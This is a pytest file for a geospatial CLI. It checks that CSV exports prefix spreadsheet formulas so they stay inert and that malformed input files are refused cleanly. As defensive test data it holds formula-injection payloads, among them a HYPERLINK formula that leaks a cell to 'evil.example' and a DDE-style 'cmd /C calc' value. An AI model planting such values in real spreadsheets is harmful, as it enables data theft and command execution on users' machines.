"""Hostile or broken files given to the CLI: one line naming the file and the row or column, exit 2, nothing
stored or written; and exports that a spreadsheet opens without running anything (both stores)."""

import csv

import geopandas as gpd
import pytest
import shapely
from click.testing import CliRunner

from cli import main

pytestmark = pytest.mark.filterwarnings("ignore::RuntimeWarning")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"c")'


def _run(*args):
    r = CliRunner().invoke(main, [str(a) for a in args])
    assert "Traceback" not in r.output
    return r


def _refused(r, *words):
    """Exit 2 and exactly one error line, which names every word."""
    errors = [line for line in r.output.splitlines() if line.startswith("error:")]
    assert r.exit_code == 2, r.output
    assert len(errors) == 1 and all(w in errors[0] for w in words), r.output


def _csv(path):
    with open(path, newline="", encoding="utf-8-sig") as f:  # our CSVs start with a BOM, for Excel
        return list(csv.DictReader(f))


@pytest.fixture
def squares(tmp_path):
    """Two 0.01-degree squares around Xiamen whose ids are formulas."""
    path = tmp_path / "squares.geojson"
    gpd.GeoDataFrame(
        {"name": ["@SUM(A1:A9)", "-1+2"]},
        geometry=[shapely.box(118.00, 24.50, 118.01, 24.51), shapely.box(118.01, 24.50, 118.02, 24.51)],
        crs="EPSG:4326",
    ).to_file(path)
    return path


# -- formulas ----------------------------------------------------------------------------------------
def test_export_cases_csv_quotes_formulas(env, tmp_path):
    src = tmp_path / "in.csv"
    src.write_text(f'matter,lon,lat,description\n06010,118.13,24.50,"{HYPERLINK.replace(chr(34), chr(34) * 2)}"\n')
    assert _run("import", "cases", src).exit_code == 0
    out = tmp_path / "out.csv"
    assert _run("export", "cases", "--format", "csv", "--out", out).exit_code == 0
    (row,) = _csv(out)
    assert row["description"] == "'" + HYPERLINK and row["lon"] == "118.13"


def test_resolve_output_quotes_formulas(tmp_path, squares):
    pts = tmp_path / "pts.csv"
    pts.write_text("note,lon,lat\n+cmd|' /C calc'!A0,118.005,24.505\n-2.5,118.015,24.505\n")
    out = tmp_path / "out.csv"
    assert _run("resolve", "--points", pts, "--layer", f"sq={squares}:name", "--out", out).exit_code == 0
    rows = _csv(out)
    assert [r["note"] for r in rows] == ["'+cmd|' /C calc'!A0", "-2.5"]  # a plain number stays a number
    assert [r["sq"] for r in rows] == ["'@SUM(A1:A9)", "'-1+2"]


def test_export_layer_csv_quotes_formulas(env, city, tmp_path):
    zones = city.layers["vendor_zones"].copy()
    zones.loc[zones.index[0], "name"] = "=1+1"
    path = tmp_path / "zones.geojson"
    zones.to_file(path)
    assert _run("layers", "apply", "vendor_zones", path).exit_code == 0
    out = tmp_path / "zones.csv"
    assert _run("export", "layer", "vendor_zones", "--format", "csv", "--out", out).exit_code == 0
    names = {r["id"]: r["name"] for r in _csv(out)}
    assert names[zones["id"].iloc[0]] == "'=1+1" and names[zones["id"].iloc[1]] == zones["name"].iloc[1]


# -- broken files --------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("content", "words"),
    [
        ("", ["bad.csv", "empty"]),
        ("matter,lon,lat\n", ["bad.csv", "no rows"]),
        ("matter,lon,lat,lon\n06010,118.13,24.50,118.2\n", ["bad.csv", "'lon'", "more than once"]),
        ("matter,lon,lat,description\n06010,118.13,24.50,ok\n06010,118.13,24.50,a\x00b\n", ["row 3", "description"]),
        ("matter,lon,lat,note\n06010,118.13,24.50,\x1b[31m\n", ["bad.csv", "row 2", "'note'", "U+001B"]),
        ("matter,lon,lat,description\n06010,118.13,24.50," + "x" * 2001 + "\n", ["row 2", "description", "2000"]),
    ],
)
def test_bad_case_files_are_refused(env, tmp_path, content, words):
    path = tmp_path / "bad.csv"
    path.write_text(content, encoding="utf-8")
    _refused(_run("import", "cases", path), *words)
    assert env.cases() == []


@pytest.mark.parametrize(
    ("content", "words"),
    [
        ("", ["bad.csv", "empty"]),
        ("id,lon,lat,lon\n1,118.0,24.5,118.1\n", ["bad.csv", "'lon'"]),
        ("id,lon,lat\n1\x00,118.0,24.5\n", ["bad.csv", "row 2", "'id'", "U+0000"]),
    ],
)
def test_bad_points_files_write_nothing(tmp_path, squares, content, words):
    path = tmp_path / "bad.csv"
    path.write_text(content, encoding="utf-8")
    _refused(_run("resolve", "--points", path, "--layer", f"sq={squares}", "--out", tmp_path / "o.csv"), *words)
    assert not (tmp_path / "o.csv").exists()


def test_empty_feature_collection_is_refused_by_audit(tmp_path):
    path = tmp_path / "empty.geojson"
    path.write_text('{"type": "FeatureCollection", "features": []}')
    _refused(_run("audit", "--layer", f"a={path}", "--out", tmp_path / "r.geojson"), "empty.geojson", "no features")
    assert not (tmp_path / "r.geojson").exists()


def test_gbk_file_is_read(env, tmp_path):
    path = tmp_path / "hotline.csv"
    path.write_bytes("matter,lon,lat,description\n06010,118.13,24.50,占道经营 垃圾堆放\n".encode("gbk"))
    r = _run("import", "cases", path)
    assert r.exit_code == 0, r.output
    assert [c.description for c in env.cases()] == ["占道经营 垃圾堆放"]


def test_undecodable_file_names_the_encoding(env, tmp_path):
    path = tmp_path / "odd.csv"
    path.write_bytes(b"matter,lon,lat,description\n06010,118.13,24.50,\xff\xfe\xff\n")
    _refused(_run("import", "cases", path), "odd.csv", "UTF-8")
    assert env.cases() == []


def test_a_file_of_many_layers_is_read_by_name_or_refused(tmp_path, squares):
    many = tmp_path / "many.gpkg"
    sq = gpd.read_file(squares)
    sq.to_file(many, layer="first")
    sq.assign(name=["left", "right"]).to_file(many, layer="wanted")
    pts = tmp_path / "pts.csv"
    pts.write_text("lon,lat\n118.005,24.505\n")
    out = tmp_path / "o.csv"
    assert _run("resolve", "--points", pts, "--layer", f"wanted={many}:name", "--out", out).exit_code == 0
    assert [r["wanted"] for r in _csv(out)] == ["left"]  # the layer named so, not the first one
    r = _run("resolve", "--points", pts, "--layer", f"other={many}:name", "--out", tmp_path / "p.csv")
    _refused(r, "many.gpkg", "2 layers", "first, wanted", "'other'")
    assert not (tmp_path / "p.csv").exists()
